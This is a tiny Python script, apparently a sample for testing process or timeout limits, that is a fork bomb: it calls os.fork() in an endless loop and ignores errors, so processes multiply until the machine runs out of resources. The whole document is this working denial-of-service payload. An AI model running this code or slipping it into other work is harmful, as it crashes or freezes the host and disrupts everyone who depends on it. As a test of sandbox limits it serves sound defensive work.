# starts processes without end
# failed timeout error resource_limit
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
